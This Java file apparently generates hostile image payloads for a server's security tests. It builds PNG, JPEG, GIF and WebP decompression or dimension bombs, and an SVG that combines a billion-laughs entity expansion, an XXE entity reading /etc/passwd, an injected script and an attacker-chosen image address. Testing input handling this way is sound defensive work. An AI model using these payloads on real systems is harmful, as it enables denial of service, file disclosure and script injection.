package io.antiphon.server.attack;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;

/// Pictures to attack with: small files that say they are huge.
final class Pictures {

    private Pictures() {}

    /// A black one.
    static byte[] picture(String format, int width, int height) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), format, bytes);
        return bytes.toByteArray();
    }

    /// With as many rows of zeros as it says, deflated, if `whole`.
    static byte[] png(int width, int height, boolean whole) throws IOException {
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        png.write(new byte[]{(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteBuffer head = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2);
        chunk(png, "IHDR", head.array());
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflated = new DeflaterOutputStream(data)) {
            byte[] row = new byte[whole ? 1 + width * 3 : 1_000];
            for (int i = 0; i < (whole ? height : 3); i++) {
                deflated.write(row);
            }
        }
        chunk(png, "IDAT", data.toByteArray());
        chunk(png, "IEND", new byte[0]);
        return png.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream png, String name, byte[] content) throws IOException {
        byte[] type = name.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(type);
        crc.update(content);
        png.write(ByteBuffer.allocate(4).putInt(content.length).array());
        png.write(type);
        png.write(content);
        png.write(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /// A small picture whose frame header says another size.
    static byte[] jpeg(int width, int height) throws IOException {
        byte[] jpeg = picture("jpg", 16, 16);
        for (int i = 0; i < jpeg.length - 9; i++) {
            if (jpeg[i] == (byte) 0xff && (jpeg[i + 1] == (byte) 0xc0 || jpeg[i + 1] == (byte) 0xc2)) {
                ByteBuffer.wrap(jpeg).putShort(i + 5, (short) height).putShort(i + 7, (short) width);
                return jpeg;
            }
        }
        throw new IOException("no frame header in the picture");
    }

    /// Frames of one colour, each as large as the screen.
    static byte[] gif(int width, int height, int frames) {
        ByteBuffer gif = ByteBuffer.allocate(20 + frames * 17).order(ByteOrder.LITTLE_ENDIAN);
        gif.put("GIF89a".getBytes(StandardCharsets.US_ASCII)).putShort((short) width).putShort((short) height);
        gif.put((byte) 0x80).put((byte) 0).put((byte) 0).put(new byte[6]);
        for (int i = 0; i < frames; i++) {
            gif.put((byte) 0x2c)
                    .putShort((short) 0)
                    .putShort((short) 0)
                    .putShort((short) width)
                    .putShort((short) height);
            gif.put((byte) 0).put((byte) 2).put((byte) 2).put((byte) 0x4c).put((byte) 1).put((byte) 0);
        }
        gif.put((byte) 0x3b);
        gif.flip();
        byte[] bytes = new byte[gif.limit()];
        gif.get(bytes);
        return bytes;
    }

    /// Extended (`VP8X`) with no picture behind, or lossless (`VP8L`) with next to nothing.
    static byte[] webp(int width, int height, boolean lossless) {
        ByteBuffer webp = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
        webp.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(56).put("WEBP".getBytes(StandardCharsets.US_ASCII));
        if (lossless) {
            webp.put("VP8L".getBytes(StandardCharsets.US_ASCII)).putInt(44).put((byte) 0x2f);
            webp.putInt(Math.min(width, 16_384) - 1 | Math.min(height, 16_384) - 1 << 14);
        } else {
            webp.put("VP8X".getBytes(StandardCharsets.US_ASCII)).putInt(10).putInt(0);
            webp.put((byte) (width - 1)).put((byte) (width - 1 >> 8)).put((byte) (width - 1 >> 16));
            webp.put((byte) (height - 1)).put((byte) (height - 1 >> 8)).put((byte) (height - 1 >> 16));
        }
        return webp.array();
    }

    /// With a document type, an entity that grows, a script, and addresses.
    static byte[] svg(String address) {
        return """
                <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
                <!ENTITY x SYSTEM "file:///etc/passwd">]>
                <svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000"><script>alert(1)</script>
                <image href="%s" width="50000" height="50000"/><text>&b;&x;</text></svg>""".formatted(address)
                .getBytes(StandardCharsets.UTF_8);
    }
}
